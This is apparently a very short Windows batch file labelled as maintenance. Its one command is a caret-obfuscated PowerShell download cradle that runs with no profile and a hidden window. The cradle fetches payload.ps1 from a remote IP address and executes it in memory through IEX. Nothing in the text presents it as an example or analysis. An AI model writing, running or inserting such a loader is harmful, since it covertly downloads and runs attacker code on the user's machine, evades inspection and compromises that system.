REM maintenance 1909 v0
p^owe^r^sh^e^ll -^no^p -w ^hidd^en -^c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')"
